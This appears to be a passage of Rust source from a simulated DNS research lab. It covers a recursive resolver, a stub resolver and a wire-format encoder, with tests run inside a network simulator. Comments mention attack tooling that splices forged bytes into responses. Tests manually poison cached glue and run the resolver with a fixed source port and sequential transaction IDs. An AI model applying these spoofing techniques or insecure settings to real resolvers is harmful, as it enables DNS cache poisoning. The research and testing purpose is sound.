            self.handle_upstream_response(ctx, src, datagram.dst_port, msg);
        }
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        let Some(p) = self.pending.get(&tag) else {
            return; // Already answered.
        };
        if p.retries < self.config.max_retries {
            let txid = self.alloc_txid(ctx);
            let sport = self.alloc_sport(ctx);
            let p = self.pending.get_mut(&tag).expect("just checked");
            p.retries += 1;
            p.txid = txid;
            p.sport = sport;
            self.stats.retries += 1;
            self.send_upstream(ctx, tag);
        } else {
            let p = self.pending.remove(&tag).expect("just checked");
            self.stats.servfails += 1;
            for c in &p.clients {
                let resp = Message {
                    id: c.txid,
                    flags: crate::wire::Flags {
                        response: true,
                        recursion_available: true,
                        rcode: RcodeField(Rcode::ServFail),
                        ..Default::default()
                    },
                    question: vec![p.question.clone()],
                    answers: Vec::new(),
                    authorities: Vec::new(),
                    additionals: Vec::new(),
                };
                self.respond(ctx, c.addr, c.port, resp);
            }
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::StubResolver;
    use crate::server::AuthServer;
    use crate::zone::pool_ntp_zone;
    use netsim::prelude::*;
    use netsim::time::SimTime;

    /// Simple client node using the stub resolver helper.
    struct TestClient {
        stack: IpStack,
        stub: StubResolver,
        question: Question,
        responses: Vec<Message>,
        repeat_every: Option<SimDuration>,
    }

    impl TestClient {
        fn new(addr: Ipv4Addr, resolver: Ipv4Addr, question: Question) -> Self {
            TestClient {
                stack: IpStack::new(addr),
                stub: StubResolver::new(resolver),
                question,
                responses: Vec::new(),
                repeat_every: None,
            }
        }
    }

    impl Node for TestClient {
        fn on_start(&mut self, ctx: &mut Context<'_>) {
            self.stub
                .query(ctx, &mut self.stack, self.question.clone(), 0);
            if let Some(d) = self.repeat_every {
                ctx.set_timer(d, 1);
            }
        }
        fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
            if let Some(StackEvent::Udp { src, datagram, .. }) = self.stack.handle(ctx, pkt) {
                if let Some(resp) = self.stub.handle(src, &datagram) {
                    self.responses.push(resp.message);
                }
            }
        }
        fn on_timer(&mut self, ctx: &mut Context<'_>, _tag: u64) {
            self.stub
                .query(ctx, &mut self.stack, self.question.clone(), 0);
            if let Some(d) = self.repeat_every {
                ctx.set_timer(d, 1);
            }
        }
        fn as_any(&self) -> &dyn Any {
            self
        }
        fn as_any_mut(&mut self) -> &mut dyn Any {
            self
        }
    }

    fn pool_question() -> Question {
        Question::a("pool.ntp.org".parse().unwrap())
    }

    fn pool_upstream(ns: Ipv4Addr) -> Upstream {
        Upstream {
            zone: "pool.ntp.org".parse().unwrap(),
            ns_names: vec![
                "ns1.pool.ntp.org".parse().unwrap(),
                "ns2.pool.ntp.org".parse().unwrap(),
            ],
            bootstrap: vec![ns],
        }
    }

    struct Setup {
        world: World,
        resolver: NodeId,
        client: NodeId,
        #[allow(dead_code)]
        server: NodeId,
    }

    fn setup(seed: u64) -> Setup {
        // One server node stands in for both nameservers of the zone, so
        // glue learned from the additional section stays routable.
        let ns_addrs = [Ipv4Addr::new(203, 0, 113, 1), Ipv4Addr::new(203, 0, 113, 2)];
        let ns_addr = ns_addrs[0];
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let mut world = World::new(seed);
        let server = world.add_node(
            "auth",
            Box::new(AuthServer::with_addrs(
                ns_addrs.to_vec(),
                vec![pool_ntp_zone(400, 2)],
            )),
            &ns_addrs,
        );
        let mut res = RecursiveResolver::new(resolver_addr, vec![pool_upstream(ns_addr)]);
        res.allow_client(client_addr);
        let resolver = world.add_node("resolver", Box::new(res), &[resolver_addr]);
        let client = world.add_node(
            "client",
            Box::new(TestClient::new(client_addr, resolver_addr, pool_question())),
            &[client_addr],
        );
        Setup {
            world,
            resolver,
            client,
            server,
        }
    }

    #[test]
    fn resolves_and_caches() {
        let mut s = setup(1);
        s.world.run_for(SimDuration::from_secs(5));
        let client = s.world.node::<TestClient>(s.client);
        assert_eq!(client.responses.len(), 1);
        assert_eq!(client.responses[0].answer_addrs().len(), 4);
        let stats = s.world.node::<RecursiveResolver>(s.resolver).stats();
        assert_eq!(stats.client_queries, 1);
        assert_eq!(stats.upstream_queries, 1);
        assert_eq!(stats.upstream_responses, 1);
        assert_eq!(stats.cache_hits, 0);
    }

    #[test]
    fn second_query_within_ttl_is_cache_hit() {
        let mut s = setup(2);
        s.world.node_mut::<TestClient>(s.client).repeat_every = Some(SimDuration::from_secs(30));
        s.world.run_until(SimTime::from_secs(70));
        let stats = s.world.node::<RecursiveResolver>(s.resolver).stats();
        assert!(stats.cache_hits >= 1, "30s < 150s TTL means cache hits");
        assert_eq!(stats.upstream_queries, 1);
        let client = s.world.node::<TestClient>(s.client);
        assert!(client.responses.len() >= 2);
        // Cached response TTLs are decremented.
        assert!(client.responses[1].answers[0].ttl < 150);
    }

    #[test]
    fn query_after_ttl_expiry_goes_upstream_again() {
        let mut s = setup(3);
        s.world.node_mut::<TestClient>(s.client).repeat_every = Some(SimDuration::from_secs(3600));
        s.world.run_until(SimTime::from_secs(3 * 3600 + 10));
        let stats = s.world.node::<RecursiveResolver>(s.resolver).stats();
        assert_eq!(stats.upstream_queries, 4, "every hourly query misses");
        let client = s.world.node::<TestClient>(s.client);
        assert_eq!(client.responses.len(), 4);
        // Rotation: each response brings fresh addresses.
        let mut all: Vec<_> = client
            .responses
            .iter()
            .flat_map(|m| m.answer_addrs())
            .collect();
        let total = all.len();
        all.sort();
        all.dedup();
        assert_eq!(all.len(), total, "16 distinct servers over 4 queries");
    }

    #[test]
    fn acl_refuses_unknown_clients() {
        let mut s = setup(4);
        let stranger_addr = Ipv4Addr::new(198, 51, 100, 99);
        let resolver_addr = s.world.node::<RecursiveResolver>(s.resolver).addr();
        let stranger = s.world.add_node(
            "stranger",
            Box::new(TestClient::new(
                stranger_addr,
                resolver_addr,
                pool_question(),
            )),
            &[stranger_addr],
        );
        s.world.run_for(SimDuration::from_secs(5));
        let responses = &s.world.node::<TestClient>(stranger).responses;
        assert_eq!(responses.len(), 1);
        assert_eq!(responses[0].rcode(), Rcode::Refused);
        assert!(
            s.world
                .node::<RecursiveResolver>(s.resolver)
                .stats()
                .refused_acl
                >= 1
        );
    }

    #[test]
    fn open_resolver_serves_strangers() {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let stranger_addr = Ipv4Addr::new(198, 51, 100, 99);
        let mut world = World::new(5);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(16, 2)])),
            &[ns_addr],
        );
        let res = RecursiveResolver::new(resolver_addr, vec![pool_upstream(ns_addr)]).with_config(
            ResolverConfig {
                open: true,
                ..ResolverConfig::default()
            },
        );
        world.add_node("resolver", Box::new(res), &[resolver_addr]);
        let stranger = world.add_node(
            "stranger",
            Box::new(TestClient::new(
                stranger_addr,
                resolver_addr,
                pool_question(),
            )),
            &[stranger_addr],
        );
        world.run_for(SimDuration::from_secs(5));
        let responses = &world.node::<TestClient>(stranger).responses;
        assert_eq!(responses.len(), 1);
        assert_eq!(responses[0].answer_addrs().len(), 4);
    }

    #[test]
    fn timeout_retries_then_servfails() {
        // No auth server exists: every upstream query is lost.
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let mut world = World::new(6);
        let mut res = RecursiveResolver::new(
            resolver_addr,
            vec![pool_upstream(Ipv4Addr::new(203, 0, 113, 77))],
        );
        res.allow_client(client_addr);
        let resolver = world.add_node("resolver", Box::new(res), &[resolver_addr]);
        let client = world.add_node(
            "client",
            Box::new(TestClient::new(client_addr, resolver_addr, pool_question())),
            &[client_addr],
        );
        world.run_for(SimDuration::from_secs(30));
        let stats = world.node::<RecursiveResolver>(resolver).stats();
        assert_eq!(stats.upstream_queries, 3, "initial + 2 retries");
        assert_eq!(stats.retries, 2);
        assert_eq!(stats.servfails, 1);
        let responses = &world.node::<TestClient>(client).responses;
        assert_eq!(responses.len(), 1);
        assert_eq!(responses[0].rcode(), Rcode::ServFail);
        assert_eq!(
            world.node::<RecursiveResolver>(resolver).pending_queries(),
            0
        );
    }

    #[test]
    fn concurrent_identical_queries_coalesce() {
        let mut s = setup(7);
        let resolver_addr = s.world.node::<RecursiveResolver>(s.resolver).addr();
        let second_addr = Ipv4Addr::new(198, 51, 100, 11);
        let second = s.world.add_node(
            "client2",
            Box::new(TestClient::new(second_addr, resolver_addr, pool_question())),
            &[second_addr],
        );
        s.world
            .node_mut::<RecursiveResolver>(s.resolver)
            .allow_client(second_addr);
        s.world.run_for(SimDuration::from_secs(5));
        let stats = s.world.node::<RecursiveResolver>(s.resolver).stats();
        assert_eq!(stats.upstream_queries, 1, "one upstream for two clients");
        assert_eq!(s.world.node::<TestClient>(s.client).responses.len(), 1);
        assert_eq!(s.world.node::<TestClient>(second).responses.len(), 1);
    }

    #[test]
    fn cached_glue_preferred_over_bootstrap() {
        let mut s = setup(8);
        s.world.run_for(SimDuration::from_secs(5));
        // The first resolution cached glue for ns1/ns2.pool.ntp.org.
        let resolver = s.world.node_mut::<RecursiveResolver>(s.resolver);
        let now = SimTime::from_secs(5);
        let glue = resolver
            .cache_mut()
            .get(now, &CacheKey::a("ns1.pool.ntp.org".parse().unwrap()));
        assert!(
            glue.is_some(),
            "glue was cached from the additional section"
        );
        // Poison the glue by hand and observe the next upstream target.
        let evil = Ipv4Addr::new(66, 66, 66, 66);
        let record = Record::a("ns1.pool.ntp.org".parse().unwrap(), evil, 86_401);
        resolver.cache_mut().insert(
            now,
            CacheKey::a("ns1.pool.ntp.org".parse().unwrap()),
            std::slice::from_ref(&record),
        );
        resolver.cache_mut().insert(
            now,
            CacheKey::a("ns2.pool.ntp.org".parse().unwrap()),
            &[Record::a("ns2.pool.ntp.org".parse().unwrap(), evil, 86_401)],
        );
        // Expire the pool A entry so the next query goes upstream.
        resolver
            .cache_mut()
            .remove(&CacheKey::a("pool.ntp.org".parse().unwrap()));
        s.world.node_mut::<TestClient>(s.client).repeat_every = None;
        // Fire another client query via a timer.
        s.world
            .schedule_timer(s.client, SimDuration::from_secs(1), 1);
        s.world.run_for(SimDuration::from_secs(10));
        // The upstream query went to the attacker address (and timed out,
        // since nothing answers there).
        let went_to_evil = s
            .world
            .trace()
            .count(|e| e.dst == evil && e.proto == IpProto::Udp);
        assert!(
            went_to_evil >= 1,
            "poisoned glue redirects upstream queries"
        );
    }

    #[test]
    fn fixed_port_and_sequential_txid_modes() {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let mut world = World::new(9);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(16, 2)])),
            &[ns_addr],
        );
        let mut res = RecursiveResolver::new(resolver_addr, vec![pool_upstream(ns_addr)])
            .with_config(ResolverConfig {
                source_ports: SourcePortPolicy::Fixed(3333),
                random_txid: false,
                ..ResolverConfig::default()
            });
        res.allow_client(client_addr);
        world.add_node("resolver", Box::new(res), &[resolver_addr]);
        let client = world.add_node(
            "client",
            Box::new(TestClient::new(client_addr, resolver_addr, pool_question())),
            &[client_addr],
        );
        world.run_for(SimDuration::from_secs(5));
        assert_eq!(world.node::<TestClient>(client).responses.len(), 1);
        // The upstream query used the fixed port.
        let used_fixed_port = world
            .trace()
            .count(|e| e.src == resolver_addr && e.dst == ns_addr && e.proto == IpProto::Udp);
        assert!(used_fixed_port >= 1);
    }
}
