//! A stub-resolver helper for client nodes.
//!
//! Nodes that need DNS (the Chronos client, the plain NTP client, SMTP
//! servers) embed a [`StubResolver`]: it allocates TXIDs, sends queries to
//! the configured recursive resolver, and matches responses back to the
//! caller-supplied tag.

use crate::server::DNS_PORT;
use crate::wire::{Message, Question};
use netsim::node::Context;
use netsim::stack::IpStack;
use netsim::time::SimTime;
use netsim::udp::UdpDatagram;
use rand::Rng;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// Default local port stub queries are sent from.
pub const STUB_PORT: u16 = 5353;

/// A matched response handed back to the owning node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StubResponse {
    /// The tag passed to [`StubResolver::query`].
    pub tag: u64,
    /// The question this answers.
    pub question: Question,
    /// The full response message.
    pub message: Message,
    /// When the query was sent.
    pub sent_at: SimTime,
}

#[derive(Debug, Clone)]
struct PendingStub {
    question: Question,
    tag: u64,
    sent_at: SimTime,
}

/// Client-side DNS query state machine (not itself a node).
#[derive(Debug)]
pub struct StubResolver {
    resolver: Ipv4Addr,
    port: u16,
    pending: HashMap<u16, PendingStub>,
}

impl StubResolver {
    /// Creates a stub pointed at `resolver`.
    pub fn new(resolver: Ipv4Addr) -> Self {
        StubResolver {
            resolver,
            port: STUB_PORT,
            pending: HashMap::new(),
        }
    }

    /// The recursive resolver this stub queries.
    pub fn resolver(&self) -> Ipv4Addr {
        self.resolver
    }

    /// Repoints the stub at a different resolver.
    pub fn set_resolver(&mut self, resolver: Ipv4Addr) {
        self.resolver = resolver;
    }

    /// Number of unanswered queries.
    pub fn pending(&self) -> usize {
        self.pending.len()
    }

    /// Forgets all outstanding queries (world-reuse support).
    pub fn reset(&mut self) {
        self.pending.clear();
    }

    /// Sends `question` through `stack`, remembering `tag` for the match.
    /// Returns the TXID used.
    pub fn query(
        &mut self,
        ctx: &mut Context<'_>,
        stack: &mut IpStack,
        question: Question,
        tag: u64,
    ) -> u16 {
        let mut txid: u16 = ctx.rng().gen();
        while self.pending.contains_key(&txid) {
            txid = txid.wrapping_add(1);
        }
        self.pending.insert(
            txid,
            PendingStub {
                question: question.clone(),
                tag,
                sent_at: ctx.now(),
            },
        );
        let msg = Message::query(txid, question);
        let me = stack.addr();
        stack.send_udp(ctx, me, self.port, self.resolver, DNS_PORT, msg.encode());
        txid
    }

    /// Offers a received datagram; returns the matched response if it is a
    /// DNS answer to one of our queries.
    ///
    /// Validates source address (must be the resolver), destination port,
    /// TXID and question — a client-side mirror of resolver validation.
    pub fn handle(&mut self, src: Ipv4Addr, datagram: &UdpDatagram) -> Option<StubResponse> {
        if src != self.resolver || datagram.src_port != DNS_PORT || datagram.dst_port != self.port {
            return None;
        }
        let message = Message::decode(&datagram.payload).ok()?;
        if !message.flags.response {
            return None;
        }
        let pending = self.pending.get(&message.id)?;
        let question_matches = message
            .question
            .first()
            .map(|q| *q == pending.question)
            .unwrap_or(false);
        if !question_matches {
            return None;
        }
        let pending = self.pending.remove(&message.id).expect("present");
        Some(StubResponse {
            tag: pending.tag,
            question: pending.question,
            message,
            sent_at: pending.sent_at,
        })
    }

    /// Drops queries older than `cutoff`; returns their tags (for the owner
    /// to treat as timeouts).
    pub fn expire_older_than(&mut self, cutoff: SimTime) -> Vec<u64> {
        let stale: Vec<u16> = self
            .pending
            .iter()
            .filter(|(_, p)| p.sent_at < cutoff)
            .map(|(txid, _)| *txid)
            .collect();
        stale
            .into_iter()
            .map(|txid| self.pending.remove(&txid).expect("present").tag)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::{Question, Record};
    use netsim::node::{Context, NodeHarness};
    use netsim::time::SimTime;
    use std::net::Ipv4Addr;

    fn ctx_scope<R>(f: impl FnOnce(&mut Context<'_>) -> R) -> R {
        let mut harness = NodeHarness::new(3);
        harness.set_now(SimTime::from_secs(1));
        harness.with_ctx(f)
    }

    fn question() -> Question {
        Question::a("pool.ntp.org".parse().unwrap())
    }

    fn respond(txid: u16, q: &Question) -> UdpDatagram {
        let mut msg = Message::response_to(&Message::query(txid, q.clone()));
        msg.answers
            .push(Record::a(q.name.clone(), Ipv4Addr::new(10, 32, 0, 1), 150));
        UdpDatagram::new(DNS_PORT, STUB_PORT, msg.encode())
    }

    #[test]
    fn query_and_match_response() {
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        let mut stub = StubResolver::new(resolver);
        let mut stack = IpStack::new(Ipv4Addr::new(198, 51, 100, 10));
        let txid = ctx_scope(|ctx| stub.query(ctx, &mut stack, question(), 42));
        assert_eq!(stub.pending(), 1);
        let resp = stub.handle(resolver, &respond(txid, &question())).unwrap();
        assert_eq!(resp.tag, 42);
        assert_eq!(resp.message.answer_addrs().len(), 1);
        assert_eq!(stub.pending(), 0);
    }

    #[test]
    fn rejects_wrong_source_or_txid() {
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        let mut stub = StubResolver::new(resolver);
        let mut stack = IpStack::new(Ipv4Addr::new(198, 51, 100, 10));
        let txid = ctx_scope(|ctx| stub.query(ctx, &mut stack, question(), 1));
        // Wrong source address.
        assert!(stub
            .handle(Ipv4Addr::new(6, 6, 6, 6), &respond(txid, &question()))
            .is_none());
        // Wrong txid.
        assert!(stub
            .handle(resolver, &respond(txid.wrapping_add(1), &question()))
            .is_none());
        // Wrong question.
        let other = Question::a("evil.example".parse().unwrap());
        assert!(stub.handle(resolver, &respond(txid, &other)).is_none());
        assert_eq!(stub.pending(), 1, "still waiting for the real answer");
    }

    #[test]
    fn expire_returns_tags() {
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        let mut stub = StubResolver::new(resolver);
        let mut stack = IpStack::new(Ipv4Addr::new(198, 51, 100, 10));
        ctx_scope(|ctx| {
            stub.query(ctx, &mut stack, question(), 7);
        });
        let expired = stub.expire_older_than(SimTime::from_secs(10));
        assert_eq!(expired, vec![7]);
        assert_eq!(stub.pending(), 0);
    }

    #[test]
    fn multiple_outstanding_queries() {
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        let mut stub = StubResolver::new(resolver);
        let mut stack = IpStack::new(Ipv4Addr::new(198, 51, 100, 10));
        let q2 = Question::a("ns1.pool.ntp.org".parse().unwrap());
        let (t1, t2) = ctx_scope(|ctx| {
            (
                stub.query(ctx, &mut stack, question(), 1),
                stub.query(ctx, &mut stack, q2.clone(), 2),
            )
        });
        assert_eq!(stub.pending(), 2);
        let r2 = stub.handle(resolver, &respond(t2, &q2)).unwrap();
        assert_eq!(r2.tag, 2);
        let r1 = stub.handle(resolver, &respond(t1, &question())).unwrap();
        assert_eq!(r1.tag, 1);
    }
}
