//! DNS wire format: RFC 1035 messages with name compression and EDNS0.
//!
//! This is a genuine encoder/decoder — the attack code measures *real*
//! response sizes with it (how many A records fit in one non-fragmented
//! response is a headline number of the paper), and forged fragments are
//! spliced at byte level against these encodings.
//!
//! # Examples
//!
//! ```
//! use dnslab::wire::{Message, Question, Record, RecordType, RData};
//! use dnslab::name::Name;
//!
//! let pool: Name = "pool.ntp.org".parse()?;
//! let mut msg = Message::query(0x1234, Question::a(pool.clone()));
//! msg.flags.recursion_desired = true;
//! let wire = msg.encode();
//! let back = Message::decode(&wire)?;
//! assert_eq!(back.id, 0x1234);
//! assert_eq!(back.question[0].name, pool);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use crate::name::Name;
use bytes::Bytes;
use core::fmt;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::error::Error;
use std::net::Ipv4Addr;

/// Fixed DNS header length.
pub const DNS_HEADER_LEN: usize = 12;

/// Classic maximum UDP payload without EDNS (RFC 1035).
pub const CLASSIC_UDP_LIMIT: usize = 512;

/// Record (and query) types modelled by the simulator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum RecordType {
    /// IPv4 address record.
    A,
    /// Authoritative nameserver.
    Ns,
    /// Canonical name alias.
    Cname,
    /// Start of authority.
    Soa,
    /// Mail exchanger.
    Mx,
    /// Free-form text.
    Txt,
    /// EDNS0 pseudo-record.
    Opt,
    /// Anything else, carried numerically.
    Unknown(u16),
}

impl RecordType {
    /// The type code on the wire.
    pub fn code(self) -> u16 {
        match self {
            RecordType::A => 1,
            RecordType::Ns => 2,
            RecordType::Cname => 5,
            RecordType::Soa => 6,
            RecordType::Mx => 15,
            RecordType::Txt => 16,
            RecordType::Opt => 41,
            RecordType::Unknown(c) => c,
        }
    }
}

impl From<u16> for RecordType {
    fn from(code: u16) -> Self {
        match code {
            1 => RecordType::A,
            2 => RecordType::Ns,
            5 => RecordType::Cname,
            6 => RecordType::Soa,
            15 => RecordType::Mx,
            16 => RecordType::Txt,
            41 => RecordType::Opt,
            other => RecordType::Unknown(other),
        }
    }
}

impl fmt::Display for RecordType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RecordType::A => write!(f, "A"),
            RecordType::Ns => write!(f, "NS"),
            RecordType::Cname => write!(f, "CNAME"),
            RecordType::Soa => write!(f, "SOA"),
            RecordType::Mx => write!(f, "MX"),
            RecordType::Txt => write!(f, "TXT"),
            RecordType::Opt => write!(f, "OPT"),
            RecordType::Unknown(c) => write!(f, "TYPE{c}"),
        }
    }
}

/// Response codes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Rcode {
    /// No error.
    NoError,
    /// Malformed query.
    FormErr,
    /// Server failure.
    ServFail,
    /// Name does not exist.
    NxDomain,
    /// Query refused (e.g. closed resolver).
    Refused,
    /// Other numeric rcode.
    Other(u8),
}

impl Rcode {
    /// Numeric rcode.
    pub fn code(self) -> u8 {
        match self {
            Rcode::NoError => 0,
            Rcode::FormErr => 1,
            Rcode::ServFail => 2,
            Rcode::NxDomain => 3,
            Rcode::Refused => 5,
            Rcode::Other(c) => c,
        }
    }
}

impl From<u8> for Rcode {
    fn from(code: u8) -> Self {
        match code {
            0 => Rcode::NoError,
            1 => Rcode::FormErr,
            2 => Rcode::ServFail,
            3 => Rcode::NxDomain,
            5 => Rcode::Refused,
            other => Rcode::Other(other),
        }
    }
}

/// Header flag bits (opcode is always QUERY in this model).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Flags {
    /// Response bit.
    pub response: bool,
    /// Authoritative answer.
    pub authoritative: bool,
    /// Truncation bit.
    pub truncated: bool,
    /// Recursion desired.
    pub recursion_desired: bool,
    /// Recursion available.
    pub recursion_available: bool,
    /// Response code.
    pub rcode: RcodeField,
}

/// Newtype so `Flags` can derive `Default` with `NoError`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct RcodeField(pub Rcode);

impl Default for RcodeField {
    fn default() -> Self {
        RcodeField(Rcode::NoError)
    }
}

/// A question section entry (class is always IN).
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Question {
    /// Queried name.
    pub name: Name,
    /// Queried type.
    pub qtype: RecordType,
}

impl Question {
    /// Shorthand for an A query.
    pub fn a(name: Name) -> Self {
        Question {
            name,
            qtype: RecordType::A,
        }
    }

    /// Shorthand for an MX query.
    pub fn mx(name: Name) -> Self {
        Question {
            name,
            qtype: RecordType::Mx,
        }
    }
}

/// Typed record data.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum RData {
    /// IPv4 address.
    A(Ipv4Addr),
    /// Nameserver name.
    Ns(Name),
    /// Alias target.
    Cname(Name),
    /// Start of authority.
    Soa {
        /// Primary nameserver.
        mname: Name,
        /// Responsible mailbox.
        rname: Name,
        /// Zone serial.
        serial: u32,
        /// Refresh interval (s).
        refresh: u32,
        /// Retry interval (s).
        retry: u32,
        /// Expire limit (s).
        expire: u32,
        /// Negative-caching TTL (s).
        minimum: u32,
    },
    /// Mail exchanger.
    Mx {
        /// Preference (lower wins).
        preference: u16,
        /// Exchange host.
        exchange: Name,
    },
    /// Text strings.
    Txt(Vec<String>),
    /// EDNS0 options pseudo-data.
    Opt {
        /// Advertised maximum UDP payload size.
        udp_payload_size: u16,
    },
    /// Unknown type payload, kept verbatim.
    Raw(Vec<u8>),
}

impl RData {
    /// The record type corresponding to this data.
    pub fn rtype(&self) -> RecordType {
        match self {
            RData::A(_) => RecordType::A,
            RData::Ns(_) => RecordType::Ns,
            RData::Cname(_) => RecordType::Cname,
            RData::Soa { .. } => RecordType::Soa,
            RData::Mx { .. } => RecordType::Mx,
            RData::Txt(_) => RecordType::Txt,
            RData::Opt { .. } => RecordType::Opt,
            RData::Raw(_) => RecordType::Unknown(0),
        }
    }
}

/// A resource record.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Record {
    /// Owner name.
    pub name: Name,
    /// Time to live in seconds.
    pub ttl: u32,
    /// Typed data.
    pub rdata: RData,
}

impl Record {
    /// Shorthand for an A record.
    pub fn a(name: Name, addr: Ipv4Addr, ttl: u32) -> Self {
        Record {
            name,
            ttl,
            rdata: RData::A(addr),
        }
    }

    /// The record's type.
    pub fn rtype(&self) -> RecordType {
        self.rdata.rtype()
    }

    /// The IPv4 address if this is an A record.
    pub fn as_a(&self) -> Option<Ipv4Addr> {
        match self.rdata {
            RData::A(addr) => Some(addr),
            _ => None,
        }
    }
}

/// A complete DNS message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Message {
    /// Transaction id.
    pub id: u16,
    /// Header flags.
    pub flags: Flags,
    /// Question section.
    pub question: Vec<Question>,
    /// Answer section.
    pub answers: Vec<Record>,
    /// Authority section.
    pub authorities: Vec<Record>,
    /// Additional section (EDNS OPT lives here).
    pub additionals: Vec<Record>,
}

/// Errors from [`Message::decode`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WireError {
    /// Ran out of bytes.
    Truncated,
    /// A compression pointer loop or forward pointer.
    BadPointer,
    /// A label longer than 63 bytes or a reserved label type.
    BadLabel,
    /// RDLENGTH disagreed with the parsed rdata.
    BadRdata,
    /// Label bytes were not valid for a name.
    BadName,
}

impl fmt::Display for WireError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            WireError::Truncated => write!(f, "message truncated"),
            WireError::BadPointer => write!(f, "invalid compression pointer"),
            WireError::BadLabel => write!(f, "invalid label"),
            WireError::BadRdata => write!(f, "rdata length mismatch"),
            WireError::BadName => write!(f, "invalid name bytes"),
        }
    }
}

impl Error for WireError {}

impl Message {
    /// Builds a query message.
    pub fn query(id: u16, question: Question) -> Self {
        Message {
            id,
            flags: Flags {
                recursion_desired: true,
                ..Flags::default()
            },
            question: vec![question],
            answers: Vec::new(),
            authorities: Vec::new(),
            additionals: Vec::new(),
        }
    }

    /// Builds a response skeleton echoing `query`'s id and question.
    pub fn response_to(query: &Message) -> Self {
        Message {
            id: query.id,
            flags: Flags {
                response: true,
                recursion_desired: query.flags.recursion_desired,
                ..Flags::default()
            },
            question: query.question.clone(),
            answers: Vec::new(),
            authorities: Vec::new(),
            additionals: Vec::new(),
        }
    }

    /// Appends an EDNS0 OPT record advertising `udp_payload_size`.
    pub fn with_edns(mut self, udp_payload_size: u16) -> Self {
        self.additionals.push(Record {
            name: Name::root(),
            ttl: 0,
            rdata: RData::Opt { udp_payload_size },
        });
        self
    }

    /// The EDNS-advertised UDP payload size, if an OPT record is present.
    pub fn edns_udp_size(&self) -> Option<u16> {
        self.additionals.iter().find_map(|r| match r.rdata {
            RData::Opt { udp_payload_size } => Some(udp_payload_size),
            _ => None,
        })
    }

    /// The response code.
    pub fn rcode(&self) -> Rcode {
        self.flags.rcode.0
    }

    /// All A-record addresses in the answer section.
    pub fn answer_addrs(&self) -> Vec<Ipv4Addr> {
        self.answers.iter().filter_map(Record::as_a).collect()
    }

    /// Serialises the message with name compression, also reporting where
    /// every record's fields landed in the output.
    ///
    /// Attack tooling uses the spans to splice forged bytes into a
    /// *predicted* response at exactly the right offsets.
    pub fn encode_tracked(&self) -> (Bytes, Vec<RecordSpan>) {
        let mut spans = Vec::new();
        let bytes = self.encode_impl(Some(&mut spans));
        (bytes, spans)
    }

    /// Serialises the message with name compression.
    pub fn encode(&self) -> Bytes {
        self.encode_impl(None)
    }

    fn encode_impl(&self, mut track: Option<&mut Vec<RecordSpan>>) -> Bytes {
        let mut out = Vec::with_capacity(128);
        out.extend_from_slice(&self.id.to_be_bytes());
        let mut b2: u8 = 0;
        if self.flags.response {
            b2 |= 0x80;
        }
        if self.flags.authoritative {
            b2 |= 0x04;
        }
        if self.flags.truncated {
            b2 |= 0x02;
        }
        if self.flags.recursion_desired {
            b2 |= 0x01;
        }
        out.push(b2);
        let mut b3: u8 = self.flags.rcode.0.code() & 0x0f;
        if self.flags.recursion_available {
            b3 |= 0x80;
        }
        out.push(b3);
        out.extend_from_slice(&(self.question.len() as u16).to_be_bytes());
        out.extend_from_slice(&(self.answers.len() as u16).to_be_bytes());
        out.extend_from_slice(&(self.authorities.len() as u16).to_be_bytes());
        out.extend_from_slice(&(self.additionals.len() as u16).to_be_bytes());

        let mut compress: HashMap<Vec<String>, usize> = HashMap::new();
        for q in &self.question {
            encode_name(&mut out, &q.name, &mut compress);
            out.extend_from_slice(&q.qtype.code().to_be_bytes());
            out.extend_from_slice(&1u16.to_be_bytes()); // IN
        }
        let sections = [
            (Section::Answer, &self.answers),
            (Section::Authority, &self.authorities),
            (Section::Additional, &self.additionals),
        ];
        for (section, records) in sections {
            for (index, r) in records.iter().enumerate() {
                let fields = encode_record(&mut out, r, &mut compress);
                if let Some(track) = track.as_deref_mut() {
                    track.push(RecordSpan {
                        section,
                        index,
                        record: r.clone(),
                        fields,
                    });
                }
            }
        }
        Bytes::from(out)
    }

    /// The encoded length in bytes (encodes internally).
    pub fn encoded_len(&self) -> usize {
        self.encode().len()
    }

    /// Parses a message.
    ///
    /// # Errors
    ///
    /// Returns a [`WireError`] for truncated input, malformed names,
